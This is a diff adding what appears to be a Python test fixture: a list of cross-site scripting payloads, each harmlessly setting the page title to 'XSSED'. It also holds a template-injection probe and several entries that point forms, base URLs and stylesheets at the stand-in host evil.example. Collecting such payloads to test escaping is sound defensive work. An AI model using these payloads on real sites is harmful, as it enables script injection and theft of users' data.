@@ -1,0 +1,52 @@
+"""What strangers write into labels, names and texts when they wish to run code on the reader's screen.
+
+Each would, if executed, set the document's title to XSSED.
+"""
+
+RUN = "document.title='XSSED'"
+
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</svg><script>{RUN}</script>",
+    f"</desc></title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"]]><script>{RUN}</script>",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"<scr<script>ipt>{RUN}</script>",
+    f"<SCRIPT >{RUN}</SCRIPT\t>",
+    f"<script/x>{RUN}</script>",
+    f'"><img src=x onerror="{RUN}">',
+    f"'><img src=x onerror={RUN}>",
+    f"<img src=x onerror={RUN}>",
+    f"<img/src=x/onerror={RUN}//",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<math><mtext><script>{RUN}</script>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
+    f'<iframe src="javascript:parent.{RUN}">',
+    f'<a href="javascript:{RUN}">read more</a>',
+    f'" onmouseover="{RUN}" x="',
+    f"' autofocus onfocus='{RUN}",
+    f"<input autofocus onfocus={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<body onload={RUN}>",
+    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
+    f"<embed src='javascript:{RUN}'>",
+    '<meta http-equiv="refresh" content="0;url=data:text/html,XSSED">',
+    '<base href="//evil.example/">',
+    '<link rel="stylesheet" href="//evil.example/x.css">',
+    "<form action=//evil.example><button>ok</button></form>",
+    "<style>@import '//evil.example/x.css';</style>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"{{{{ self.__init__.__globals__ }}}} {{% raw %}} ${{{RUN}}}",
+    f"<\x00script>{RUN}</script\x0b>",
+    f"\u202e<script>{RUN}</script>\u2066",
+    f"'];{RUN};//",
+)
